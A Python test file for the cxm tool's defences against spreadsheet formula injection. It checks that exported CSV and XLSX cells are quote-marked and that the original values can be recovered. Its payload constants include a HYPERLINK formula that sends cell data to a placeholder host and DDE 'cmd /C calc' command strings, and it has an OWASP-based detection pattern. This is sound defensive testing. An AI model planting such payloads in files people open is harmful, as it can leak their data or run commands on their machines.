"""Files safe to open (issue 20, finding 2): no text cell cxm writes to CSV or XLSX starts with
what a spreadsheet runs as a formula; the value stays recoverable; Parquet keeps it as it is.

The payloads are imported through the real importer as seller and customer ids (it refuses
ids that start with a tab, a carriage return or a space: `bad_id`), as rank names (the
segment report's labels), as a user's display name and a scenario's name (the stamps), and as
customer ids in `cxm clv`'s transactions (which trim a leading tab or carriage return).
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re
import tomllib
import zipfile
from pathlib import Path

import duckdb
import polars as pl
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cxm.access import Role, User
from cxm.cli import app
from cxm.config import DEFAULT_CONFIG, load_config
from cxm.pipeline import import_dir
from cxm.reports import at_risk_customers, segment_table, write
from cxm.reports import recommendations as files
from cxm.segments import Period, SegmentFilter
from cxm.warehouse import cells, store
from cxm.warehouse.importer import export_raw
from cxm.warehouse.scoped import Scoped
from cxm.whatif import scenarios
from cxm.whatif.compare import Guardrails, load_field, rank
from cxm.whatif.need import PRIORITIES
from cxm.whatif.weights import Weights
from tests.conftest import TINY, TINY_TODAY

HYPERLINK = '=HYPERLINK("http://host/?d="&B2,"Open")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"
PAYLOADS = (HYPERLINK, CMD, SUM, MINUS)
#: What OWASP says a cell must not start with (after spaces or a double quote a spreadsheet
#: may drop); a leading ' is the mark that makes the rest text.
DANGER = re.compile(r'^[ "]*[=+\-@\t\r\n]')
ROOT = Path(__file__).parents[1]
ADMIN = User(username="root", name="Root", email="r@x", role=Role.ADMIN)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _csv_cells(data: bytes) -> list[str]:
    """Every cell of ``data`` as a spreadsheet splitting on ",", ";" or a tab would see it."""
    text = data.decode("utf-8-sig")
    return [
        cell
        for sep in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep)
        for cell in row
    ]


def _assert_csv_safe(data: bytes, payloads=PAYLOADS) -> None:
    found = _csv_cells(data)
    assert [c for c in found if DANGER.match(c) and not _is_number(c)] == []
    for p in payloads:  # each one written behind the quote, and given back by `restore`
        assert "'" + p in found and cells.restore("'" + p) == p


def _assert_xlsx_safe(data: bytes, payloads=PAYLOADS) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        shared = (
            z.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in z.namelist()
            else ""
        )
    assert not any(re.search(r"<f[ >]", s) for s in sheets)  # no formula cell
    assert not any("<hyperlink" in s for s in sheets)  # no text turned into a link
    strings = [html.unescape(t) for t in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", shared, re.S)]
    strings += [
        html.unescape(t) for s in sheets for t in re.findall(r"<is><t[^>]*>(.*?)</t>", s, re.S)
    ]
    assert [s for s in strings if DANGER.match(s)] == []
    for p in payloads:
        assert "'" + p in strings


# --- the rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        (SUM, "'" + SUM),
        (MINUS, "'-2+3"),
        ("-", "'-"),
        ("\t=1+2", "'\t=1+2"),  # tab
        ("\r=1+2", "'\r=1+2"),  # carriage return
        ("\n=1+2", "'\n=1+2"),  # line feed (OWASP lists it too)
        ("  =1+2", "'  =1+2"),  # spaces an opener may trim
        ('"=1+2', "'\"=1+2"),  # a quote before it
        ("'=1+2", "''=1+2"),  # already marked: marked again, so the quote comes back
        ("S01", "S01"),
        ("a=b", "a=b"),
        ("C-3", "C-3"),
        ("", ""),
        ("'plain", "'plain"),
    ],
)
def test_the_rule_marks_every_text_a_spreadsheet_would_run_and_nothing_else(value, written):
    assert cells.safe(value) == written
    assert cells.restore(written) == value


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"aS1,;"), max_size=8) | st.text())
def test_every_text_is_written_safe_and_read_back_exactly(value):
    written = cells.safe(value)
    assert not DANGER.match(written)
    assert cells.restore(written) == value
    # The same rule in Polars (reports, the import) and DuckDB (export-raw).
    frame = cells.safe_frame(pl.DataFrame({"v": [value]}))
    assert frame["v"][0] == written
    assert cells.restore_frame(frame, ["v"])["v"][0] == value
    if "\x00" not in value:
        sql = f"SELECT {cells.sql_safe('$v')}"
        # A connection of its own: DuckDB's default one is shared by every test in the process.
        with duckdb.connect() as con:
            assert con.execute(sql, {"v": value, **cells.SQL_PARAMS}).fetchall()[0][0] == written


def test_numbers_stay_numbers_and_only_text_is_marked_and_quoted():
    frame = pl.DataFrame(
        {"id": [MINUS, "S01", None], "n": [-2, 3, None], "x": [-0.25, 1.5, None], "ok": [True] * 3}
    )
    buf = io.BytesIO()
    cells.write_csv(frame, buf)
    # Text quoted (a ; or , inside starts no cell), -2 and -0.25 bare numbers, null empty.
    assert buf.getvalue().decode().splitlines() == [
        '"id","n","x","ok"',
        '"\'-2+3",-2,-0.25,"true"',
        '"S01",3,1.5,"true"',
        ',,,"true"',
    ]


def test_a_stamp_line_gives_no_separator_a_formula_to_start():
    # A scenario name is free text: "Q3,=HYPERLINK(..)" would make a cell "=HYPERLINK(.." in
    # the unquoted "# Scenario: ..." line; the quote goes in after the separator.
    assert cells.comment(f"Q3,{HYPERLINK};{CMD}") == f"Q3,'{HYPERLINK};'{CMD}"
    assert cells.comment("market BR, MX; rank Member") == "market BR, MX; rank Member"
    assert cells.comment("a\r\n=1") == "a  =1"  # one line: no row of its own


def test_streamlit_tables_offer_no_download_of_their_cells():
    # Streamlit's own "Download as CSV" on a table writes cells as they are, unstamped and
    # unaudited, for any role (Streamlit 1.67's frontend quotes, never marks them).
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


# --- payloads as seller and customer ids, through the importer ------------------------------


@pytest.fixture(scope="module")
def payload_warehouse(small_demo_warehouse, tmp_path_factory) -> Path:
    """The small demo with 4 at-risk, consenting customers of 4 live sellers renamed to the
    payloads (each customer and its seller get the same one), imported from Parquet."""
    with store.open_readonly(small_demo_warehouse) as con:
        picked = con.sql(
            """SELECT v.customer_id, v.seller_id
               FROM fact_customer_value v JOIN customers c USING (customer_id)
               JOIN sellers s ON s.seller_id = v.seller_id
               WHERE v.at_risk = 1 AND c.consent_personalization AND s.terminated_on IS NULL
               QUALIFY row_number() OVER (PARTITION BY v.seller_id ORDER BY v.p_alive) = 1
               ORDER BY v.p_alive, v.customer_id LIMIT 4"""
        ).fetchall()
    ids = {old: p for pair, p in zip(picked, PAYLOADS, strict=True) for old in pair}
    folder = tmp_path_factory.mktemp("payload")
    raw = export_raw(folder / "raw", path=small_demo_warehouse, fmt="parquet")
    (folder / "in").mkdir()
    for file in raw.values():
        frame = pl.read_parquet(file)
        text = [c for c, t in frame.schema.items() if t == pl.String]
        frame.with_columns(pl.col(c).replace(ids) for c in text).write_parquet(
            folder / "in" / file.name
        )
    path = folder / "cxm.duckdb"
    import_dir(folder / "in", path=path, today=dt.date(2026, 12, 31))
    return path


def test_at_risk_customers_with_formula_ids_open_as_text_and_stay_raw_in_parquet(
    payload_warehouse, tmp_path
):
    with store.open_readonly(payload_warehouse) as con:
        table = at_risk_customers(
            Scoped.everywhere(con),
            where=SegmentFilter(period=Period.parse("2026-10")),
            cfg=load_config(),
            generated_by=f"Ana, {HYPERLINK} (analyst)",
        )
    # The four customers and their sellers are at risk and consented: all in the file.
    assert set(PAYLOADS) <= set(table.frame["customer_id"]) & set(table.frame["seller_id"])
    _assert_csv_safe(write(table, "csv", tmp_path / "r.csv").read_bytes())
    _assert_xlsx_safe(write(table, "xlsx", tmp_path / "r.xlsx").read_bytes())
    back = pl.read_parquet(write(table, "parquet", tmp_path / "r.parquet"))
    assert set(PAYLOADS) <= set(back["customer_id"])
    # Numbers stay numbers: every p_alive of the CSV reads back as a float, unmarked.
    csv_back = pl.read_csv(tmp_path / "r.csv", comment_prefix="#")
    assert csv_back["p_alive"].dtype == pl.Float64
    assert set(cells.restore(c) for c in csv_back["customer_id"]) == set(back["customer_id"])


def test_recommendations_with_formula_seller_ids_and_scenario_name_open_as_text(
    payload_warehouse, tmp_path
):
    with store.open_readonly(payload_warehouse) as con:
        field = load_field(Scoped.everywhere(con), load_config())
    ranking = rank(field, Weights.of(dict.fromkeys(PRIORITIES, 1.0)))
    saved_at, trail = tmp_path / "s.sqlite", tmp_path / "a.sqlite"
    name = f"Q3,{HYPERLINK};{CMD}"  # 61 characters, under the 80 allowed
    scenarios.save(name, ranking.weights, Guardrails(), user=ADMIN, field=field, path=saved_at)
    data = files.export_recommendations(
        ADMIN, field, ranking, "csv", audit_path=trail, scenarios_path=saved_at
    )
    _assert_csv_safe(data)
    assert f"# Scenario: \"Q3,'{HYPERLINK};'{CMD}\" (scenario 1)" in data.decode("utf-8-sig")
    raw = pl.read_parquet(
        files.export_recommendations(
            ADMIN, field, ranking, "parquet", audit_path=trail, scenarios_path=saved_at
        )
    )
    assert set(PAYLOADS) <= set(raw["seller_id"])


def test_export_raw_csv_opens_as_text_and_imports_back_exactly(payload_warehouse, tmp_path):
    out = export_raw(tmp_path / "csv", path=payload_warehouse, fmt="csv")
    for table in ("sellers", "customers", "orders"):
        _assert_csv_safe(out[table].read_bytes())
    again = tmp_path / "again.duckdb"
    import_dir(tmp_path / "csv", path=again, today=dt.date(2026, 12, 31))
    # Every table equal, row for row, to the one exported (the quotes read back off).
    first = export_raw(tmp_path / "a", path=payload_warehouse, fmt="parquet")
    second = export_raw(tmp_path / "b", path=again, fmt="parquet")
    for table, file in first.items():
        a, b = pl.read_parquet(file), pl.read_parquet(second[table])
        assert a.sort(a.columns).equals(b.sort(b.columns)), table


# --- payloads as segment labels, through the report and `cxm report` ----------------------

#: Tiny company ranks renamed (the segment report lists ranks up the ladder).
RANKS = {"Member": HYPERLINK, "Consultant": CMD, "Manager": SUM, "Director": MINUS}


@pytest.fixture(scope="module")
def payload_ranks(tmp_path_factory) -> tuple[Path, Path]:
    """The tiny company with four ranks named by the payloads: (warehouse, config file)."""
    folder = tmp_path_factory.mktemp("ranks")
    config = yaml.safe_load(DEFAULT_CONFIG.read_text())
    config["ranks"] = [RANKS.get(r, r) for r in config["ranks"]]
    (folder / "company.yaml").write_text(yaml.safe_dump(config))
    (folder / "in").mkdir()
    for file in TINY.glob("*.csv"):
        rows = list(csv.reader(file.open(newline="")))
        with (folder / "in" / file.name).open("w", newline="") as f:
            csv.writer(f).writerows([rows[0], *([RANKS.get(c, c) for c in r] for r in rows[1:])])
    path = folder / "cxm.duckdb"
    cfg = load_config(folder / "company.yaml")
    import_dir(folder / "in", path=path, config=cfg, today=TINY_TODAY)
    return path, folder / "company.yaml"


def test_a_segment_report_by_formula_ranks_opens_as_text(payload_ranks, tmp_path):
    path, config = payload_ranks
    with store.open_readonly(path) as con:
        table = segment_table(
            Scoped.everywhere(con),
            ["active_rate"],
            by=["rank"],
            where=SegmentFilter(period=Period.parse("2026-Q1")),
            cfg=load_config(config),
            generated_by=f"{HYPERLINK} (analyst)",  # the About sheet: a formula, once
        )
    assert set(PAYLOADS) <= set(table.frame["rank"])
    _assert_csv_safe(write(table, "csv", tmp_path / "r.csv").read_bytes())
    _assert_xlsx_safe(write(table, "xlsx", tmp_path / "r.xlsx").read_bytes())
    assert set(PAYLOADS) <= set(pl.read_parquet(write(table, "parquet", tmp_path / "r.pq"))["rank"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cxm_report_by_formula_ranks_writes_a_file_that_opens_as_text(
    payload_ranks, tmp_path, monkeypatch, fmt
):
    path, config = payload_ranks
    monkeypatch.setenv("CXM_CONFIG", str(config))
    out = tmp_path / f"q1.{fmt}"
    args = ["report", "--kpi", "active_rate", "--by", "rank", "--period", "2026-Q1"]
    result = CliRunner().invoke(
        app, [*args, "--format", fmt, "--out", str(out), "--warehouse", str(path)]
    )
    assert result.exit_code == 0, result.output
    check = _assert_csv_safe if fmt == "csv" else _assert_xlsx_safe
    check(out.read_bytes())


# --- payloads as customer ids in `cxm clv` -------------------------------------------------


def test_cxm_clv_predictions_csv_opens_as_text(tmp_path):
    # Three purchases each; the ids lead with = + @ -, a tab and a carriage return.
    ids = [*PAYLOADS, "\t=1+2", "\r=3+4", "ok"]
    days = ("2026-01-0{}", "2026-02-02", "2026-03-03")
    rows = [(c, day.format(1 + n % 5), "10.00") for n, c in enumerate(ids) for day in days]
    source = tmp_path / "orders.csv"
    with source.open("w", newline="") as f:
        csv.writer(f).writerows([("customer_id", "date", "amount"), *rows])
    out = tmp_path / "p.csv"
    args = ["clv", str(source), "--calibration-end", "2026-03-03", "--predictions", str(out)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    # The reader trims the tab and the carriage return: "=1+2" and "=3+4" are the ids.
    _assert_csv_safe(out.read_bytes(), payloads=(*PAYLOADS, "=1+2", "=3+4"))
